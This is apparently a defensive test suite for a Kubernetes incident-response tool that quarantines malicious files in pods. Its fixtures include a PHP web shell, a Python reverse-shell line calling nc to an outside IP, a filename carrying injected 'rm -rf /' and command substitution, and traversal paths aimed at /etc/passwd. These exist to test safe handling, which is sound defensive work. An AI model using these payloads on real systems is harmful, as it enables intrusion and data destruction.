/**
 * quarantine-file against the real client-node and a fake Kubernetes API whose pods are
 * temp dirs running real programs (mv, chmod, stat, sha256sum, find, realpath, id…).
 */
import { createHash } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { destroyAwsClients, type AwsClients } from '../../../../src/aws/clients.js';
import { loadConfig, type PipelineSettings } from '../../../../src/config.js';
import { ProtectedTargetError } from '../../../../src/errors.js';
import { createKubeClients } from '../../../../src/kube/clients.js';
import { createSilentLogger } from '../../../../src/logger.js';
import { quarantineFile, quarantineFileAction, type QuarantineCandidatesDetails, type QuarantineFileInput } from '../../../../src/pipeline/actions/containment/quarantineFile.js';
import type { ActionDeps } from '../../../../src/pipeline/actions/types.js';
import { invokeAction } from '../../../../src/pipeline/invokeAction.js';
import { createMotoClients } from '../../../support/aws.js';
import { startFakeKube, type FakeKube, type FakePod } from '../../../support/fakeKube/index.js';

const NS = 'web';
const T0 = new Date('2026-03-01T12:00:00.000Z');
const READ_ONLY = new Set(['stat', 'sha256sum', 'find', 'ls', 'cat', 'head', 'wc', 'test', 'realpath', 'id']);
/** The fake runs every program as the user running the suite: that is the pod's exec user. */
const EXEC_UID = process.getuid!();
/** Only root can give a file another owner (chown), as a workload user who made it would be. */
const CAN_CHOWN = EXEC_UID === 0;
const OTHER_UID = 4242;

let fake: FakeKube;
let aws: AwsClients;
let podCount = 0;

beforeAll(async () => {
  fake = await startFakeKube();
  aws = createMotoClients();
});

afterAll(async () => {
  destroyAwsClients(aws);
  await fake.close();
});

beforeEach(() => {
  fake.clearRecords();
});

afterEach(async () => {
  await fake.idle();
});

function settings(overrides: Partial<PipelineSettings> = {}): PipelineSettings {
  return { ...loadConfig({ env: {}, envFile: false }).pipeline, ...overrides };
}

/** The default quarantine directory: outside every world-writable directory. */
const QDIR = settings().quarantineDir;
const QPARENT = QDIR.slice(0, QDIR.lastIndexOf('/'));
const ALTERNATE = new RegExp(`^${QDIR.replace(/[.]/g, '\\.')}\\.[0-9a-f]{16}$`);

function deps(overrides: Partial<PipelineSettings> = {}, now: () => Date = () => T0): ActionDeps {
  return { aws, kube: createKubeClients(fake.kubeConfig()), settings: settings(overrides), logger: createSilentLogger(), now };
}

function newPod(files: Record<string, string | Buffer>, containers: string[] = ['app']): FakePod {
  podCount += 1;
  return fake.addPod({ namespace: NS, name: `web-${podCount}`, containers, files });
}

function sha256(data: string | Buffer): string {
  return createHash('sha256').update(data).digest('hex');
}

const STAT = (p: string) => ['stat', '-c', '%s %a %u %F', '--', p];
const argvs = () => fake.execs.map((e) => e.argv);
const request = (input: QuarantineFileInput) => ({ input, actor: 'cli', incidentId: 'inc-1' });
const invoke = (input: unknown, d = deps(), dryRun = false) => invokeAction(quarantineFileAction, input, { actor: 'cli', incidentId: 'inc-1', ...(dryRun ? { dryRun } : {}) }, d);
const notesOf = (r: { details: object }) => (r.details as { notes: string[] }).notes;

describe('quarantine-file', () => {
  it('resolves the path in the pod, creates its own quarantine directory (mode 700), moves the file to quarantine_<sha12>_<name> with mode 000 and verifies it', async () => {
    const path = '/var/www/html/uploads/shell.php';
    const content = '<?php system($_GET["c"]); ?>\n';
    const pod = newPod({ [path]: content, '/var/www/html/index.php': 'index' });
    const hash = sha256(content);
    const to = `${QDIR}/quarantine_${hash.slice(0, 12)}_shell.php`;

    const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());

    expect(result.status).toBe('succeeded');
    expect(result.summary).toContain(to);
    expect(result.details).toEqual({
      namespace: NS,
      pod: pod.name,
      container: 'app',
      from: path,
      to,
      sha256: hash,
      size: Buffer.byteLength(content),
      mode: '000',
      notes: [],
    });
    expect(pod.exists(path)).toBe(false);
    expect(pod.mode(to)).toBe(0);
    expect(pod.mode(QDIR)).toBe(0o700);
    expect(pod.stat(QDIR).uid).toBe(EXEC_UID);
    expect(pod.sha256(to)).toBe(hash);
    expect(pod.readText('/var/www/html/index.php')).toBe('index');
    expect(argvs()).toEqual([
      STAT(path),
      ['realpath', '-e', '-z', '--', path],
      ['sha256sum', '--', path],
      ['id', '-u'],
      ['stat', '-L', '-c', '%s %a %u %F', '--', QPARENT],
      ['mkdir', '-p', '--', QPARENT],
      ['stat', '-L', '-c', '%s %a %u %F', '--', QPARENT],
      STAT(QDIR),
      // Never -p for the directory itself: only an entry sentinel made now is taken as made by sentinel.
      ['mkdir', '-m', '700', '--', QDIR],
      STAT(QDIR),
      STAT(to),
      ['mv', '--', path, to],
      ['sha256sum', '--', to],
      ['chmod', '000', '--', to],
      STAT(to),
      STAT(path),
    ]);
  });

  it('a rerun finds the quarantined copy and is skipped (by name, and by the extracted sha256)', async () => {
    const path = '/srv/app/backdoor.py';
    const content = 'import os; os.system("nc -e /bin/sh 203.0.113.9 4444")\n';
    const pod = newPod({ [path]: content });
    const first = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());
    const to = (first.details as { to: string }).to;
    fake.clearRecords();

    const byName = await invoke({ namespace: NS, pod: pod.name, path });
    expect(byName.status).toBe('skipped');
    expect(byName.summary).toMatch(new RegExp(`^already quarantined at ${to.replace(/[.]/g, '\\.')}`));
    expect(byName.details).toMatchObject({ to, quarantined: [to] });
    expect(argvs()).toContainEqual(['find', QDIR, '-maxdepth', '1', '-type', 'f', '-name', `quarantine_${'[0-9a-f]'.repeat(12)}_backdoor.py`]);
    expect(fake.execs.every((e) => READ_ONLY.has(e.argv[0]!))).toBe(true);
    fake.clearRecords();

    const bySha = await invoke({ namespace: NS, pod: pod.name, path, sha256: sha256(content).toUpperCase() });
    expect(bySha.status).toBe('skipped');
    expect(bySha.details).toMatchObject({ to });
    expect(argvs()).toContainEqual(STAT(to));
    // The exact name is looked up; no search by name pattern.
    expect(argvs().filter((a) => a[0] === 'find' && a.includes('-type'))).toEqual([]);
    expect(pod.mode(to)).toBe(0);
    expect(pod.sha256(to)).toBe(sha256(content));
  });

  it('a dry run returns the plan and changes nothing', async () => {
    const path = '/app/public/x.jsp';
    const pod = newPod({ [path]: 'jsp' });
    const before = pod.list();

    const result = await invoke({ namespace: NS, pod: pod.name, path }, deps(), true);

    const to = `${QDIR}/quarantine_${sha256('jsp').slice(0, 12)}_x.jsp`;
    expect(result.status).toBe('skipped');
    expect(result.summary).toBe(`dry run: would move ${JSON.stringify(path)} in ${NS}/${pod.name} (container app) to ${to} and make it mode 000`);
    expect(result.details).toMatchObject({ dryRun: true, from: path, to, sha256: sha256('jsp'), mode: '000' });
    expect(notesOf(result)).toEqual([`would create ${QPARENT} and ${QDIR} (mode 700)`]);
    expect((result.details as { steps: string[][] }).steps).toContainEqual(['mv', '--', path, to]);
    expect(fake.execs.length).toBeGreaterThan(0);
    expect(fake.execs.every((e) => READ_ONLY.has(e.argv[0]!))).toBe(true);
    expect(pod.list()).toEqual(before);
    expect(pod.exists(QDIR)).toBe(false);
    expect(pod.mode(path)).toBe(0o644);
  });

  it('a missing file with no quarantined copy is skipped: file not found', async () => {
    const pod = newPod({ '/tmp/other.txt': 'o' });
    const result = await invoke({ namespace: NS, pod: pod.name, path: '/tmp/gone.php' });
    expect(result.status).toBe('skipped');
    expect(result.summary).toMatch(/^file not found: "\/tmp\/gone\.php"/);
    expect(fake.execs.every((e) => READ_ONLY.has(e.argv[0]!))).toBe(true);
    expect(pod.exists(QDIR)).toBe(false);
  });

  it('does not count a quarantined file of another name whose sanitized name merely ends the same', async () => {
    const pod = newPod({ '/tmp/a b.php': 'one' });
    await quarantineFile(request({ namespace: NS, pod: pod.name, path: '/tmp/a b.php' }), deps()); // quarantine_<sha12>_a_b.php
    const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path: '/tmp/b.php' }), deps());
    expect(result.status).toBe('skipped');
    expect(result.summary).toMatch(/^file not found/);
  });

  it('handles a name full of shell metacharacters as data and touches nothing else', async () => {
    const path = "/tmp/x'; rm -rf / #$(id)`id`\n.php";
    const content = 'evil';
    const others = { '/etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n', '/var/www/html/index.php': '<?php echo 1;', '/tmp/keep.txt': 'keep' };
    const pod = newPod({ [path]: content, ...others });
    const before = pod.list().filter((p) => p !== path);
    const to = `${QDIR}/quarantine_${sha256(content).slice(0, 12)}_____id__id__.php`;

    const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());

    expect(result.status).toBe('succeeded');
    expect(result.details).toMatchObject({ from: path, to, sha256: sha256(content), mode: '000' });
    expect(result.details).not.toHaveProperty('resolvedPath');
    expect(argvs()).toContainEqual(['realpath', '-e', '-z', '--', path]);
    expect(argvs()).toContainEqual(['mv', '--', path, to]);
    expect(argvs()).toContainEqual(['sha256sum', '--', path]);
    expect(fake.execs.every((e) => e.refused === undefined)).toBe(true);
    expect(pod.exists(path)).toBe(false);
    expect(pod.readText(to)).toBe(content);
    expect(pod.list().filter((p) => p !== to)).toEqual(before);
    for (const [p, c] of Object.entries(others)) expect(pod.readText(p)).toBe(c);

    // The rerun finds it by its sanitized name.
    const again = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());
    expect(again.status).toBe('skipped');
    expect(again.details).toMatchObject({ to });
  });

  it.each([
    ['/var/www/../../etc/passwd', 'PathTraversal'],
    ['/tmp/./x.php', 'PathTraversal'],
    ['/etc/passwd', 'PathOutsideRoots'],
    ['/var/www', 'PathOutsideRoots'],
  ])('refuses %j before any Kubernetes call', async (path, code) => {
    const pod = newPod({ '/etc/passwd': 'root', '/var/www/x': 'x' });
    const result = await invoke({ namespace: NS, pod: pod.name, path });
    expect(result.status).toBe('failed');
    expect(result.details).toEqual({ error: code, final: true });
    expect(fake.execs).toEqual([]);
    expect(fake.calls).toEqual([]);
    await expect(quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps())).rejects.toBeInstanceOf(ProtectedTargetError);
    expect(pod.readText('/etc/passwd')).toBe('root');
  });

  it('refuses the quarantine directory and sentinel\'s alternates beside it before any Kubernetes call, even when they are under the roots', async () => {
    const dir = '/var/tmp/sentinel-quarantine';
    const pod = newPod({ '/var/tmp/x': 'x' });
    for (const path of [dir, `${dir}/quarantine_0123456789ab_x.php`, `${dir}.0123456789abcdef/quarantine_0123456789ab_x.php`]) {
      const result = await invoke({ namespace: NS, pod: pod.name, path }, deps({ quarantineDir: dir }));
      expect(result.details, path).toEqual({ error: 'PathInQuarantine', final: true });
    }
    expect(fake.calls).toEqual([]);
  });

  it('refuses bad input', async () => {
    for (const input of [
      { namespace: 'web', pod: 'Bad_Pod', path: '/tmp/x' },
      { namespace: 'web', pod: 'p', path: 'x' },
      { namespace: 'web', pod: 'p', path: '/tmp/x', sha256: 'abc' },
      { namespace: 'web', pod: 'p' },
      { namespace: 'web', pod: 'p', path: '/tmp/x', candidates: ['/tmp/y'] },
      { namespace: 'web', pod: 'p', candidates: [] },
      { namespace: 'web', pod: 'p', candidates: ['/tmp/x'], sha256: 'a'.repeat(64) },
    ]) {
      const result = await invoke(input);
      expect(result, JSON.stringify(input)).toMatchObject({ status: 'failed', details: { error: 'InvalidInput', final: true } });
    }
    expect(fake.calls).toEqual([]);
  });

  it('a missing pod fails with NotFound', async () => {
    const result = await invoke({ namespace: NS, pod: 'no-such-pod', path: '/tmp/x' });
    expect(result).toEqual({ status: 'failed', summary: `pod ${NS}/no-such-pod not found`, details: { error: 'PodNotFound', final: true } });
    expect(fake.execs).toEqual([]);
  });

  it('refuses a symlink (it would move the link and leave the target) and a directory', async () => {
    const pod = newPod({ '/var/www/html/real.php': 'real' });
    pod.symlink('real.php', '/var/www/html/link.php');
    pod.mkdir('/var/www/html/dir');

    for (const [path, type] of [
      ['/var/www/html/link.php', 'symbolic link'],
      ['/var/www/html/dir', 'directory'],
    ] as const) {
      const result = await invoke({ namespace: NS, pod: pod.name, path });
      expect(result.status).toBe('failed');
      expect(result.summary).toContain(`is a ${type}, not a regular file`);
      expect(result.details).toEqual({ error: 'NotRegularFile', final: true });
    }
    expect(pod.stat('/var/www/html/link.php').isSymbolicLink()).toBe(true);
    expect(pod.readText('/var/www/html/real.php')).toBe('real');
    expect(fake.execs.every((e) => READ_ONLY.has(e.argv[0]!))).toBe(true);
  });

  describe('a symlinked parent directory', () => {
    it('that leads out of the roots (/tmp/a -> /etc) is refused: /etc/passwd is neither moved nor touched', async () => {
      const passwd = 'root:x:0:0:root:/root:/bin/sh\n';
      const pod = newPod({ '/etc/passwd': passwd, '/tmp/keep': 'k' });
      pod.symlink('../etc', '/tmp/a'); // /tmp/a -> /etc (relative: the fake resolves links on the host)
      const modeBefore = pod.mode('/etc/passwd');

      const result = await invoke({ namespace: NS, pod: pod.name, path: '/tmp/a/passwd' });

      expect(result.status).toBe('failed');
      expect(result.details).toEqual({ error: 'SymlinkEscape', final: true });
      expect(result.summary).toBe('refusing "/tmp/a/passwd": it resolves through a symlink to "/etc/passwd", outside the allowed roots (/var/www, /srv, /tmp, /var/tmp, /app, /home, /opt)');
      expect(pod.readText('/etc/passwd')).toBe(passwd);
      expect(pod.mode('/etc/passwd')).toBe(modeBefore);
      expect(fake.execs.every((e) => READ_ONLY.has(e.argv[0]!))).toBe(true);
      expect(argvs()).toContainEqual(['realpath', '-e', '-z', '--', '/tmp/a/passwd']);
      expect(pod.exists(QDIR)).toBe(false);
    });

    it('that stays inside the roots is followed: the real file is quarantined, and the result says where it was', async () => {
      const pod = newPod({ '/srv/uploads/drop.php': 'drop' });
      pod.symlink('../../srv/uploads', '/var/www/uploads'); // /var/www/uploads -> /srv/uploads

      const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path: '/var/www/uploads/drop.php' }), deps());

      expect(result.status).toBe('succeeded');
      expect(result.details).toMatchObject({ from: '/var/www/uploads/drop.php', resolvedPath: '/srv/uploads/drop.php', sha256: sha256('drop') });
      expect(notesOf(result)[0]).toBe('/var/www/uploads/drop.php resolves to /srv/uploads/drop.php (a symlinked directory inside the roots); quarantining /srv/uploads/drop.php');
      expect(argvs()).toContainEqual(['mv', '--', '/srv/uploads/drop.php', (result.details as { to: string }).to]);
      expect(pod.exists('/srv/uploads/drop.php')).toBe(false);
      expect(pod.stat('/var/www/uploads').isSymbolicLink()).toBe(true);
    });
  });

  describe('the quarantine directory', () => {
    /** Quarantines one file, and returns where it went and which directory held it. */
    async function quarantineOne(pod: FakePod, path: string) {
      const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());
      expect(result.status, result.summary).toBe('succeeded');
      const to = (result.details as { to: string }).to;
      return { result, to, dir: to.slice(0, to.lastIndexOf('/')) };
    }

    it('squatted by a workload user (a world-writable directory with a decoy in it) is left alone, and sentinel uses a directory of its own beside it, again next time', async () => {
      const pod = newPod({ '/var/www/html/a.php': 'a', '/var/www/html/b.php': 'b' });
      pod.mkdir(QDIR, { mode: 0o777 });
      pod.writeFile(`${QDIR}/quarantine_${sha256('a').slice(0, 12)}_a.php`, 'decoy');

      const first = await quarantineOne(pod, '/var/www/html/a.php');

      expect(first.dir).toMatch(ALTERNATE);
      expect(notesOf(first.result)).toEqual([`${QDIR} is writable by other users (mode 777): left as it is and not used`, `using ${first.dir}, created now`]);
      expect(pod.mode(first.dir)).toBe(0o700);
      expect(pod.stat(first.dir).uid).toBe(EXEC_UID);
      expect(pod.readText(`${QDIR}/quarantine_${sha256('a').slice(0, 12)}_a.php`)).toBe('decoy');
      expect(pod.mode(QDIR)).toBe(0o777);
      expect(pod.sha256(first.to)).toBe(sha256('a'));

      // The next quarantine in that pod finds sentinel's directory and uses it.
      const second = await quarantineOne(pod, '/var/www/html/b.php');
      expect(second.dir).toBe(first.dir);
      expect(notesOf(second.result)).toEqual([`${QDIR} is writable by other users (mode 777): left as it is and not used`, `using ${first.dir}, created by sentinel earlier`]);
      // A rerun finds the quarantined copy there, and never takes the decoy for it.
      const rerun = await invoke({ namespace: NS, pod: pod.name, path: '/var/www/html/a.php' });
      expect(rerun.status).toBe('skipped');
      expect(rerun.details).toMatchObject({ to: first.to, quarantined: [first.to] });
    });

    it.runIf(CAN_CHOWN)('made first by another user (mode 700, not sentinel\'s exec user) is detected by its owner and worked around', async () => {
      const pod = newPod({ '/home/www/up.php': 'up' });
      pod.mkdir(QDIR, { mode: 0o700 });
      pod.chown(QDIR, OTHER_UID);

      const { result, dir } = await quarantineOne(pod, '/home/www/up.php');

      expect(dir).toMatch(ALTERNATE);
      expect(notesOf(result)[0]).toBe(`${QDIR} is owned by uid ${OTHER_UID}, not by the user sentinel runs as in the container (uid ${EXEC_UID}): left as it is and not used`);
      expect(pod.stat(QDIR).uid).toBe(OTHER_UID);
      expect(pod.list(QDIR)).toEqual([]);
    });

    it.each([
      ['a decoy file', (pod: FakePod) => pod.writeFile(QDIR, 'decoy'), 'is a regular file, not a directory'],
      ['a symlink into the web root', (pod: FakePod) => pod.symlink('../www/html', QDIR), 'is a symbolic link, not a directory'],
    ])('with %s at its name: the decoy is detected, left alone, and nothing goes through it', async (_what, plant, problem) => {
      const path = '/tmp/drop.php';
      const pod = newPod({ [path]: 'drop', '/var/www/html/index.php': 'index' });
      plant(pod);
      const decoy = pod.stat(QDIR);

      const { result, dir, to } = await quarantineOne(pod, path);

      expect(dir).toMatch(ALTERNATE);
      expect(notesOf(result)[0]).toBe(`${QDIR} ${problem}: left as it is and not used`);
      expect(pod.stat(QDIR).ino).toBe(decoy.ino);
      expect(pod.list('/var/www/html')).toEqual(['/var/www/html/index.php']);
      expect(pod.mode(to)).toBe(0);
      expect(pod.exists(path)).toBe(false);
    });

    it('of sentinel\'s own with a loosened mode is made 700 again before use', async () => {
      const pod = newPod({ '/opt/x.sh': 'x' });
      pod.mkdir(QDIR, { mode: 0o750 });
      const { result, dir } = await quarantineOne(pod, '/opt/x.sh');
      expect(dir).toBe(QDIR);
      expect(notesOf(result)).toEqual([`${QDIR} had mode 750; made it 700`]);
      expect(pod.mode(QDIR)).toBe(0o700);
    });

    it('is refused in a parent that other users may write without the sticky bit (they could swap it)', async () => {
      const dir = '/data/shared/q';
      const pod = newPod({ '/data/in/evil.bin': 'bin' });
      pod.mkdir('/data/shared', { mode: 0o777 });
      const result = await invoke({ namespace: NS, pod: pod.name, path: '/data/in/evil.bin' }, deps({ quarantineRoots: ['/data/in'], quarantineDir: dir }));
      expect(result.status).toBe('failed');
      expect(result.details).toEqual({ error: 'QuarantineDirUnsafe', final: true });
      expect(result.summary).toMatch(/parent \/data\/shared .* is writable by other users without the sticky bit \(mode 777\)/);
      expect(pod.readText('/data/in/evil.bin')).toBe('bin');
    });

    it('in a sticky world-writable parent (a /var/tmp setting) is still created and checked, and a squatter there is worked around', async () => {
      const dir = '/var/tmp/sentinel-quarantine';
      const pod = newPod({ '/var/www/s.php': 's' });
      pod.mkdir('/var/tmp', { mode: 0o1777 });
      pod.mkdir(dir, { mode: 0o777 });
      const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path: '/var/www/s.php' }), deps({ quarantineDir: dir }));
      expect(result.status).toBe('succeeded');
      expect((result.details as { to: string }).to).toMatch(new RegExp(`^${dir}\\.[0-9a-f]{16}/quarantine_`));
    });

    it('that the container user may not create fails clearly, saying which setting to change, and moves nothing', async () => {
      const pod = newPod({ '/var/www/p.php': 'p' });
      // The fake runs every program as the suite's user (root here), so a permission denial is
      // answered by a hook, as a non-root container's mkdir would answer it.
      fake.onExec((ctx) =>
        ctx.pod === pod.name && ctx.argv[0] === 'mkdir' && ctx.argv.includes('700')
          ? { exitCode: 1, stderr: `mkdir: cannot create directory '${QDIR}': Permission denied\n` }
          : undefined,
      );
      try {
        const result = await invoke({ namespace: NS, pod: pod.name, path: '/var/www/p.php' });
        expect(result.status).toBe('failed');
        expect(result.summary).toBe(
          `mkdir failed in ${NS}/${pod.name} (exit 1): mkdir: cannot create directory '${QDIR}': Permission denied: the container's user cannot create ${QDIR}; set SENTINEL_QUARANTINE_DIR to a directory it can create, outside world-writable directories`,
        );
        expect(pod.readText('/var/www/p.php')).toBe('p');
      } finally {
        fake.onExec(undefined);
      }
    });

    it('uses the configured directory and roots', async () => {
      const path = '/data/incoming/evil.bin';
      const pod = newPod({ [path]: 'bin' });
      const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps({ quarantineRoots: ['/data'], quarantineDir: '/data/.q//' }));
      expect(result.status).toBe('succeeded');
      expect(result.details).toMatchObject({ to: `/data/.q/quarantine_${sha256('bin').slice(0, 12)}_evil.bin` });
      expect(pod.mode('/data/.q')).toBe(0o700);
    });
  });

  it('a second copy of already quarantined content is moved beside it; nothing is overwritten or removed', async () => {
    const path = '/home/www/upload.php';
    const content = 'same payload';
    const pod = newPod({ [path]: content });
    const first = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());
    const to = (first.details as { to: string }).to;
    pod.writeFile(path, content); // the attacker uploads it again

    const later = new Date('2026-03-01T13:14:15.678Z');
    const second = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps({}, () => later));

    const dup = `${to}.dup-20260301T131415Z`;
    expect(second.status).toBe('succeeded');
    expect(second.details).toMatchObject({ to: dup, sha256: sha256(content), mode: '000' });
    expect(notesOf(second)).toEqual([`${to} already holds the same content; storing this copy beside it`]);
    expect(pod.exists(path)).toBe(false);
    expect(pod.list(QDIR)).toEqual([to, dup]);
    expect(pod.mode(to)).toBe(0);
    expect(pod.mode(dup)).toBe(0);
    expect(argvs().map((a) => a[0])).not.toContain('rm');
  });

  it('a name already taken by other content gets a unique name instead of failing, and the other content is kept', async () => {
    const path = '/srv/x.php';
    const pod = newPod({ [path]: 'real' });
    const expected = `${QDIR}/quarantine_${sha256('real').slice(0, 12)}_x.php`;
    pod.mkdir(QDIR, { mode: 0o700 });
    pod.writeFile(expected, 'something else');
    pod.writeFile(`${expected}.dup-20260301T120000Z`, 'and another');

    const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());

    expect(result.status).toBe('succeeded');
    const to = (result.details as { to: string }).to;
    expect(to).toMatch(new RegExp(`^${expected.replace(/[.]/g, '\\.')}\\.dup-20260301T120000Z-[0-9a-f]{8}$`));
    expect(notesOf(result)[0]).toBe(`${expected} already exists and holds something else (sha256 ${sha256('something else')}); keeping it and storing this copy under a unique name`);
    expect(pod.readText(expected)).toBe('something else');
    expect(pod.sha256(to)).toBe(sha256('real'));
  });

  it('two runs racing for the same file: one moves it, the other finds it quarantined; neither fails', async () => {
    const path = '/var/www/race.php';
    const pod = newPod({ [path]: 'race' });
    const results = await Promise.all([1, 2].map(() => invoke({ namespace: NS, pod: pod.name, path })));
    expect(results.map((r) => r.status).sort()).toEqual(['skipped', 'succeeded']);
    const moved = results.find((r) => r.status === 'succeeded')!;
    expect(results.find((r) => r.status === 'skipped')!.summary).toMatch(/^already quarantined at /);
    expect(pod.list(QDIR)).toEqual([(moved.details as { to: string }).to]);
  });

  it('quarantines content that changed since extraction, and says so', async () => {
    const path = '/opt/tool/run.sh';
    const pod = newPod({ [path]: 'v2' });
    const expected = sha256('v1');

    const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path, sha256: expected }), deps());

    expect(result.status).toBe('succeeded');
    expect(result.details).toMatchObject({ sha256: sha256('v2'), expectedSha256: expected, to: `${QDIR}/quarantine_${sha256('v2').slice(0, 12)}_run.sh` });
    expect(notesOf(result)[0]).toMatch(/changed since extraction/);
  });

  describe('candidates (every reading of an ambiguous path)', () => {
    const real = '/var/www/html/uploads/a proc=x cmdline=.php';
    const shortReading = '/var/www/html/uploads/a';

    it('quarantines each one that exists inside the roots; refuses the others and leaves them alone', async () => {
      const pod = newPod({ [real]: '<?php evil();', '/etc/shadow': 'secret' });
      pod.symlink('../etc', '/tmp/etc');
      const candidates = [shortReading, real, '/etc/shadow', '/tmp/etc/shadow'];

      const result = await invoke({ namespace: NS, pod: pod.name, candidates });

      expect(result.status).toBe('succeeded');
      const details = result.details as QuarantineCandidatesDetails;
      expect(details.candidates.map((c) => [c.path, c.status])).toEqual([
        [shortReading, 'skipped'],
        [real, 'succeeded'],
        ['/etc/shadow', 'refused'],
        ['/tmp/etc/shadow', 'refused'],
      ]);
      expect(details.candidates[2]!.summary).toMatch(/outside the allowed roots/);
      expect(details.candidates[3]!.summary).toMatch(/resolves through a symlink to "\/etc\/shadow"/);
      const to = `${QDIR}/quarantine_${sha256('<?php evil();').slice(0, 12)}_a_proc_x_cmdline_.php`;
      expect(details.quarantined).toEqual([to]);
      expect(result.summary).toMatch(/^quarantined 1 of 4 candidate paths/);
      expect(pod.exists(real)).toBe(false);
      expect(pod.mode(to)).toBe(0);
      expect(pod.readText('/etc/shadow')).toBe('secret');
    });

    it('a dry run shows the plan for each candidate and changes nothing (the approval\'s preflight)', async () => {
      const pod = newPod({ [real]: 'x' });
      const result = await invoke({ namespace: NS, pod: pod.name, candidates: [shortReading, real, '/etc/passwd'] }, deps(), true);
      expect(result.status).toBe('skipped');
      expect(result.summary).toMatch(/^dry run: would quarantine 1 of 3 candidate paths/);
      const details = result.details as QuarantineCandidatesDetails & { dryRun: boolean };
      expect(details.dryRun).toBe(true);
      expect(details.candidates.map((c) => c.status)).toEqual(['skipped', 'succeeded', 'refused']);
      expect(details.candidates[1]!.summary).toMatch(/^dry run: would move /);
      expect(fake.execs.every((e) => READ_ONLY.has(e.argv[0]!))).toBe(true);
      expect(pod.exists(real)).toBe(true);
    });

    it('none found: skipped, saying so for each', async () => {
      const pod = newPod({ '/tmp/other': 'o' });
      const result = await invoke({ namespace: NS, pod: pod.name, candidates: ['/tmp/a', '/tmp/b'] });
      expect(result.status).toBe('skipped');
      expect(result.summary).toMatch(/^quarantined none of 2 candidate paths/);
    });
  });
});
